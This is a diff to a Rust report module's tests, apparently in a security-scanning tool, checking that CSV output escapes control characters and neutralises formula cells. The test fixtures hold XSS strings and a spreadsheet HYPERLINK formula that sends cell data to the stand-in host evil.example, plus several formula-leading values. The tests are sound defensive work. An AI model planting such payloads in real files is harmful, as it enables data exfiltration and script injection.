@@ -17,9 +17,8 @@ use std::path::{Path, PathBuf};
 
 use anyhow::Context as _;
 
+use crate::files::write_atomically_with;
 use crate::model::Report;
-
-pub use write::{write_atomically, write_atomically_with};
 
 /// The output formats.
 #[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
@@ -203,16 +202,42 @@ mod tests {
     }
 
     #[test]
-    fn csv_quotes_per_rfc_4180() {
+    fn csv_quotes_per_rfc_4180_and_writes_control_characters_out() {
         let text = String::from_utf8(csv::render(&hostile_report()).unwrap()).unwrap();
         assert!(
             text.contains(
-                "\"<script>alert(1)</script>\"\"><img src=x onerror=alert(2)> & \u{1} ,\"\"quoted\"\"\nline\""
+                "\"<script>alert(1)</script>\"\"><img src=x onerror=alert(2)> & \\x01 ,\"\"quoted\"\"\nline\""
             )
         );
+        assert!(!text.contains('\u{1}'), "no raw control character reaches the file");
         let mut reader = ::csv::Reader::from_reader(text.as_bytes());
         let record = reader.records().next().unwrap().unwrap();
-        assert_eq!(&record[13], only_finding(&mut hostile_report()).message);
+        assert_eq!(&record[13], csv::cell(&only_finding(&mut hostile_report()).message));
+    }
+
+    #[test]
+    fn no_csv_cell_is_a_formula() {
+        let mut report = hostile_report();
+        let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+        only_finding(&mut report).resource_name = formula.into();
+        only_finding(&mut report).resource_tags = [("@team".to_owned(), "-web".to_owned())].into();
+        report.frameworks = vec![FrameworkInfo {
+            id: "f".into(),
+            name: "+cmd".into(),
+            version: "1".into(),
+            controls: vec![ControlInfo { id: "1.1".into(), title: "=1+1".into(), checks: vec!["c".into()] }],
+        }];
+        let framework = report.frameworks[0].clone();
+        let mut compliance_csv = Vec::new();
+        compliance::write(&report, &framework, &mut compliance_csv).unwrap();
+        for text in [csv::render(&report).unwrap(), compliance_csv] {
+            let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_slice());
+            for record in reader.records() {
+                for field in record.unwrap().iter() {
+                    assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field:?}");
+                }
+            }
+        }
     }
 
     #[test]
